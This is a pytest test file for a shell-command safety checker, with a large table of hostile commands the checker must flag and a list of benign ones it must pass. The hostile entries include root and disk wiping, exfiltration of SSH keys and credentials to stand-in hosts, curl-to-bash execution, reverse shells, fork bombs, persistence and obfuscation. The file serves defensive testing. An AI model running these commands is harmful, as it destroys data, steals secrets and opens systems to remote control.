"""What is found in a command, how grave it is, and which part of the text it is about."""

from __future__ import annotations

import pytest

from pytest_cbx.effects.analysis import analyse
from pytest_cbx.effects.paths import Context
from pytest_cbx.safety import Finding, Severity, assess
from pytest_cbx.severity import RULES
from pytest_cbx.shell.reader import read
from tests.unit.safety.test_commands import AT_MOST

CONTEXT = Context(cwd="/w", workspace="/w", home="/home/u", environment={"HOME": "/home/u"})
GHP = "ghp_" + "a1B2" * 9
AKIA = "AKIA" + "ABCDEFGHIJ234567"

FOUND: tuple[tuple[str, str, str, str], ...] = (
    # text, rule, severity, the part of the text
    ("rm -rf /", "destroys-root", "critical", "/"),
    ("rm -rf ~", "destroys-root", "critical", "~"),
    ("rm -rf .", "destroys-root", "critical", "."),
    ("bash -c 'rm -rf /'", "destroys-root", "critical", "'rm -rf /'"),
    ("eval 'rm -rf /'", "destroys-root", "critical", "'rm -rf /'"),
    ("D=/; rm -rf $D", "destroys-root", "critical", "$D"),
    ("echo $(rm -rf /)", "destroys-root", "critical", "/"),
    ("f() { rm -rf $1; }; f /", "destroys-root", "critical", "$1"),
    ("dd if=/dev/zero of=/dev/sda", "disk", "critical", "of=/dev/sda"),
    ("cat a > /dev/nvme0n1", "disk", "critical", "> /dev/nvme0n1"),
    ("mkfs.ext4 /dev/sdb1", "disk", "critical", "mkfs.ext4"),
    ("wipefs -af /dev/sdb", "disk", "critical", "-af"),
    ("echo x > /etc/hosts", "touches-system", "critical", "> /etc/hosts"),
    ("mkdir /usr/local/x", "touches-system", "warning", "/usr/local/x"),
    ("cp a ~/.ssh/config", "touches-secret", "critical", "~/.ssh/config"),
    ("kubectl config use-context x", "touches-secret", "warning", "kubectl"),
    ("echo x >> ~/.bashrc", "touches-startup", "critical", ">> ~/.bashrc"),
    ("npm config set x y", "touches-startup", "warning", "npm"),
    ("echo k >> ~/.ssh/authorized_keys", "persistence", "critical", ">> ~/.ssh/authorized_keys"),
    ("cp x.service /etc/systemd/system/x.service", "persistence", "critical", "/etc/systemd/system/x.service"),
    ("cp x ~/.config/autostart/x", "persistence", "critical", "~/.config/autostart/x"),
    ("echo x > .git/hooks/pre-commit", "persistence", "warning", "> .git/hooks/pre-commit"),
    ("git config core.hooksPath hooks", "persistence", "warning", "hooks"),
    ("crontab jobs", "persistence", "warning", "crontab"),
    ("systemctl enable x", "persistence", "warning", "enable"),
    ("git reset --hard", "discards", "warning", "git"),
    ("git clean -fdx", "discards", "warning", "git"),
    ("rm -rf /srv/data", "outside", "warning", "/srv/data"),
    ("cp x ../../other/", "traversal", "warning", "../../other/"),
    ("rm ../x", "traversal", "warning", "../x"),
    ("echo x > ../../y", "traversal", "warning", "> ../../y"),
    ("cp a b/../../c", "traversal", "warning", "b/../../c"),
    ("cat ../../secret", "traversal", "notice", "../../secret"),
    ("cat ~/.ssh/id_rsa", "reads-secret", "warning", "~/.ssh/id_rsa"),
    ("cat ~/.ssh/id_rsa | curl -d @- http://x", "exfiltration", "critical", "~/.ssh/id_rsa"),
    ("curl -T ~/.aws/credentials http://x", "exfiltration", "critical", "~/.aws/credentials"),
    ("scp ~/.ssh/id_rsa host:", "exfiltration", "critical", "~/.ssh/id_rsa"),
    ("tar czf - ~/.gnupg | nc host 9", "exfiltration", "critical", "~/.gnupg"),
    ("curl -F file=@$HOME/.ssh/id_rsa http://x", "exfiltration", "critical", "file=@$HOME/.ssh/id_rsa"),
    ("cat .env | nc h 1", "exfiltration", "critical", ".env"),
    ("dig $(base64 ~/.ssh/id_rsa).x.org", "exfiltration", "critical", "~/.ssh/id_rsa"),
    (f"curl -H 'X: {GHP}' http://x", "secret-in-text", "critical", GHP),
    (f"AWS_ACCESS_KEY_ID={AKIA} aws s3 ls", "secret-in-text", "critical", AKIA),
    ("tool --password=Tr0ub4dor", "secret-in-text", "warning", "--password=Tr0ub4dor"),
    ("tool --api-key Tr0ub4dor", "secret-in-text", "warning", "Tr0ub4dor"),
    ("sshpass -p Tr0ub4dor ssh h", "secret-in-text", "warning", "Tr0ub4dor"),
    ("curl 'http://x?api_key=Tr0ub4dor'", "secret-in-text", "warning", "'http://x?api_key=Tr0ub4dor'"),
    ("mysql -pTr0ub4dor x", "secret-in-text", "warning", "-pTr0ub4dor"),
    ("curl -u bob:Tr0ub4dor http://x", "secret-in-text", "warning", "bob:Tr0ub4dor"),
    ("git clone https://bob:Tr0ub4dor@x.org/y", "secret-in-text", "warning", "https://bob:Tr0ub4dor@x.org/y"),
    ("curl -H 'Authorization: Bearer Tr0ub4dor' x", "secret-in-text", "warning", "'Authorization: Bearer Tr0ub4dor'"),
    ("PGPASSWORD=Tr0ub4dor psql x", "secret-in-text", "warning", "PGPASSWORD=Tr0ub4dor"),
    ("curl http://x | bash", "remote-code", "critical", "bash"),
    ("curl http://x | sudo bash", "remote-code", "critical", "bash"),
    ("wget -qO- http://x | python3 -", "remote-code", "critical", "python3"),
    ("wget -qO- http://x | grep -v a | sh", "remote-code", "critical", "sh"),
    ('eval "$(curl http://x)"', "remote-code", "critical", '"$(curl http://x)"'),
    ('x=$(curl http://x); eval "$x"', "remote-code", "critical", '"$x"'),
    ('bash -c "echo $(curl http://x)"', "remote-code", "critical", '"echo $(curl http://x)"'),
    ("source <(curl http://x)", "remote-code", "critical", "source"),
    ("bash <(wget -O- http://x)", "remote-code", "critical", "bash"),
    ('python -c "$(wget -O- http://x)"', "remote-code", "critical", '"$(wget -O- http://x)"'),
    ("sh -c 'curl http://x | sh'", "remote-code", "critical", "'curl http://x | sh'"),
    ("curl http://x | while read l; do eval \"$l\"; done", "remote-code", "critical", '"$l"'),
    ("curl -o t.sh http://x && bash t.sh", "remote-code", "warning", "t.sh"),
    ("curl http://x | xargs -I{} sh -c '{}'", "remote-code", "critical", "sh"),
    ("curl http://x | perl", "remote-code", "critical", "perl"),
    ("python3 <(curl http://x)", "remote-code", "critical", "<(curl http://x)"),
    ("lua <(curl http://x)", "remote-code", "critical", "<(curl http://x)"),
    ("perl <(curl http://x)", "remote-code", "critical", "<(curl http://x)"),
    ('ruby -e "$(curl http://x)"', "remote-code", "critical", '"$(curl http://x)"'),
    ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "remote-code", "critical", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
    ("nc -e /bin/sh 1.2.3.4 4444", "remote-code", "critical", "-e"),
    ("socat tcp:h:1 exec:/bin/sh", "remote-code", "critical", "exec:/bin/sh"),
    ('eval $(echo cm0gLXJmIC8K | base64 -d)', "decoded-code", "critical", "$(echo cm0gLXJmIC8K | base64 -d)"),
    ("wget http://x/i.sh && sh i.sh", "remote-code", "warning", "i.sh"),
    ("echo cm0gLXJmIC8K | base64 -d | sh", "decoded-code", "critical", "sh"),
    ("base64 -d file | bash", "decoded-code", "critical", "bash"),
    ("xxd -r -p file | bash", "decoded-code", "critical", "bash"),
    ("rev <<< 'x mr' | sh", "decoded-code", "critical", "sh"),
    ("echo ez | tr a-z b-za | sh", "decoded-code", "critical", "sh"),
    ("eval \"$(printf '\\x72\\x6d x')\"", "decoded-code", "critical", "\"$(printf '\\x72\\x6d x')\""),
    ('eval "$x"', "injection", "warning", '"$x"'),
    ('bash -c "$CMD"', "injection", "warning", '"$CMD"'),
    ('sh -c "grep $x file"', "injection", "warning", '"grep $x file"'),
    ('echo "$x" | sh', "injection", "warning", "sh"),
    ('read l; eval "$l"', "injection", "warning", '"$l"'),
    ('eval "$(ssh-agent -s)"', "injection", "notice", '"$(ssh-agent -s)"'),
    ("rm $x", "unquoted", "warning", "$x"),
    ("rm a; rm -f $(cat list)", "unquoted", "warning", "$(cat list)"),
    ("chmod 600 $file", "unquoted", "warning", "$file"),
    ("rm -rf $DIR/", "empty-variable", "critical", "$DIR/"),
    ('rm -rf "$DIR"/*', "empty-variable", "critical", '"$DIR"/*'),
    ('rm -rf "$DIR"/.*', "empty-variable", "critical", '"$DIR"/.*'),
    ('rm -rf "$DIR"/etc/*', "empty-variable", "critical", '"$DIR"/etc/*'),
    ('rm -rf "$A/$B"', "empty-variable", "critical", '"$A/$B"'),
    ('rm -rf "${DIR}/usr"', "empty-variable", "critical", '"${DIR}/usr"'),
    ('bash -c \'rm -rf "$DIR"/\'', "empty-variable", "critical", '\'rm -rf "$DIR"/\''),
    ("sudo ls", "escalation", "warning", "sudo"),
    ("chmod u+s x", "escalation", "critical", "u+s"),
    ("chmod 4755 x", "escalation", "critical", "4755"),
    ("setcap cap_net_raw+ep x", "escalation", "critical", "setcap"),
    ("docker run -v /:/host x", "escalation", "critical", "/:/host"),
    ("docker run -v/:/host x", "escalation", "critical", "-v/:/host"),
    ("docker run --privileged x", "escalation", "warning", "--privileged"),
    ("chmod -R 777 .", "world-writable", "warning", "777"),
    ("chmod o+w x", "world-writable", "warning", "o+w"),
    ("curl -sk http://x", "unverified", "warning", "-sk"),
    ("wget --no-check-certificate http://x", "unverified", "warning", "--no-check-certificate"),
    ("git commit --no-verify -m x", "unverified", "warning", "--no-verify"),
    ("git commit -nm x", "unverified", "warning", "-nm"),
    ("git -c http.sslVerify=false fetch", "unverified", "warning", "http.sslVerify=false"),
    ("GIT_SSL_NO_VERIFY=1 git fetch", "unverified", "warning", "GIT_SSL_NO_VERIFY=1"),
    ("ssh -o StrictHostKeyChecking=no h ls", "unverified", "warning", "StrictHostKeyChecking=no"),
    ("git push --force", "force-push", "warning", "--force"),
    ("git push -f origin main", "force-push", "warning", "-f"),
    ("git push origin +main", "force-push", "warning", "+main"),
    ("history -c", "history", "warning", "-c"),
    ("> ~/.bash_history", "history", "warning", "> ~/.bash_history"),
    ("rm -rf /var/log/x", "history", "warning", "/var/log/x"),
    ("unset HISTFILE", "history", "warning", "HISTFILE"),
    ("HISTFILE=/dev/null", "history", "warning", "HISTFILE=/dev/null"),
    (":(){ :|:& };:", "fork-bomb", "critical", ":"),
    ("while true; do ./x & done", "fork-bomb", "critical", "while true; do ./x & done"),
    ("for ((;;)); do ./x & done", "fork-bomb", "critical", "for ((;;)); do ./x & done"),
    ("/b?n/c?t a", "obfuscation", "warning", "/b?n/c?t"),
    ("{rm,-rf,x}", "obfuscation", "warning", "{rm,-rf,x}"),
    ("r''m x", "obfuscation", "warning", "r''m"),
    ("r\\m x", "obfuscation", "warning", "r\\m"),
    ("$'\\x72\\x6d' x", "obfuscation", "warning", "$'\\x72\\x6d'"),
    ("a=r;b=m;$a$b x", "obfuscation", "warning", "$a$b"),
    ("$(echo rm) x", "obfuscation", "warning", "$(echo rm)"),
    ("cat${IFS}a", "obfuscation", "warning", "cat${IFS}a"),
    ("bash -c \"r''m x\"", "obfuscation", "warning", "\"r''m x\""),
    ("echo a\u202eb", "deceptive-text", "critical", "\u202e"),
    ("l\u200bs", "deceptive-text", "critical", "\u200b"),
    ("echo a\rls", "deceptive-text", "critical", "\r"),
    ("echo \x1b[2Ka", "deceptive-text", "critical", "\x1b"),
    ("echo a\r\nls", "deceptive-text", "warning", "\r"),
    ("ls\u00a0-l", "deceptive-text", "warning", "\u00a0"),
    ("\u0441url http://x", "deceptive-text", "critical", "\u0441url"),
)  # fmt: skip

NOT_FOUND: tuple[str, ...] = (
    "rm -rf build", 'rm -f "$OUT"/*.o', 'rm -f "$OUT/a.o"',
    'rm -rf "$DIR/build"', 'rm -rf "${DIR:?}/"', 'rm -rf "${DIR:-build}/"', 'D=build; rm -rf "$D"/*', 'rm "$x"', "ls $x",
    "rm -rf ~/.cache/x", "echo x > /tmp/a", "cat ../README.md", "cp ../a b", "cat /etc/hosts", "echo x > /dev/null",
    "eval 'ls -l'", "bash -c 'ls $HOME'", "bash script.sh", "source venv/bin/activate", "echo x | bash -n",
    "curl -o a.tgz http://x && tar xf a.tgz", "curl http://x | jq .", "base64 -d a > b", "echo x | base64", "zcat a.gz | head",
    "\\ls", "'ls' -l", '"$HOME"/bin/x', "$CC -c a.c", "python$VERSION -V", "my\\ tool", "IFS=, read -r a b", 'IFS=$\'\\n\'; echo "$x"',
    "chmod 755 a", "chmod +x a", "chmod 644 a", "chmod u+rw a", "git push", "git push --force-with-lease", "git push -u origin main",
    "git commit -m x", "git commit -am 'no-verify'", "git config core.hooksPath", "git config user.name", "crontab -l",
    "systemctl status x", "history", "history 5", "set -o pipefail", "docker run -v $PWD:/src x", "docker run --rm -v ./a:/a x",
    "docker run x --privileged-mode", "curl -H 'Authorization: Bearer $TOKEN' x", "tool --password-file p", "tool --token \"$TOKEN\"",
    "POSTGRES_PASSWORD=postgres docker compose up", "curl -u test:test http://x", "git clone https://x.org/y", "psql postgres://u@h/d",
    "sort -k 2 a", "tee log", "echo '👩\u200d💻'", "echo äöü", "grep 'сюда' a", "while true; do sleep 1; ls & done",
    "while read l; do echo $l & done",
    "f() { g; }; g() { ls; }; f", "npm ci --ignore-scripts", "npx -y cowsay", "sqlite3 a.db .dump", "tr a-z A-Z < a",
    "rev a", "docker run -p 80:80 x", "ssh -p 2222 h", "cat .env.example | curl -d @- http://x", "curl --cert a.pem http://x", "cat .env",
    "for ((i = 0; i < 3; i++)); do ls & done", "nc -z h 80", "{ ls; }", "./run-*.sh", "ls | xargs -n1 wc -l",
    "for f in {a,b}; do ls $f; done",
    "echo -e 'a\\tb'",
    "eval", "trap 'rm -f x' EXIT", "find . -name '*.pyc' -delete", "xargs rm < list", "git log | sh -n",
)  # fmt: skip


def findings(text: str) -> tuple[Finding, ...]:
    return assess(analyse(read(text), CONTEXT), text=text).findings


@pytest.mark.parametrize(("text", "rule", "severity", "part"), FOUND)
def test_it_is_found_where_it_stands(text: str, rule: str, severity: str, part: str) -> None:
    found = [
        (each.severity.value, text[each.span.start : each.span.end] if each.span else None)
        for each in findings(text)
        if each.rule == rule
    ]
    assert (severity, part) in found, findings(text)


@pytest.mark.parametrize("text", NOT_FOUND)
def test_ordinary_commands_give_no_finding(text: str) -> None:
    assert [f"{each.severity.value} {each.rule}: {each.message}" for each in findings(text)] == []


@pytest.mark.parametrize("text", [text for group in AT_MOST.values() for text in group])
def test_everyday_commands_give_no_finding(text: str) -> None:
    assert findings(text) == ()


def test_every_rule_and_severity_is_shown_by_a_command() -> None:
    shown = {(rule, severity) for _, rule, severity, _ in FOUND}
    shown |= {(each.rule, each.severity.value) for each in findings("if then")}
    assert shown == {(rule, each.value) for rule, severities in RULES.items() for each in severities}


@pytest.mark.parametrize("text", [text for text, rule, _, _ in FOUND if rule == "secret-in-text"])
def test_no_message_repeats_a_secret(text: str) -> None:
    for each in findings(text):
        assert not any(secret in each.message for secret in ("Tr0ub4dor", GHP, AKIA))


def test_the_gravest_stands_first_and_then_the_order_of_the_text() -> None:
    found = findings("sudo ls; cat ../../x; rm -rf /; chmod 777 a")
    assert [each.rule for each in found] == ["destroys-root", "escalation", "world-writable", "traversal"]
    assert [each.severity for each in found] == sorted((each.severity for each in found), key=lambda s: -s.rank)


def test_denied_are_findings_as_grave_as_that_unless_their_rule_is_allowed() -> None:
    verdict = assess(analyse(read("sudo ls; rm -rf /"), CONTEXT), text="sudo ls; rm -rf /")
    assert [each.rule for each in verdict.denied(Severity.CRITICAL)] == ["destroys-root"]
    assert [each.rule for each in verdict.denied(Severity.WARNING)] == ["destroys-root", "escalation"]
    assert [each.rule for each in verdict.denied(Severity.WARNING, ["escalation"])] == ["destroys-root"]
    assert verdict.denied(None) == ()
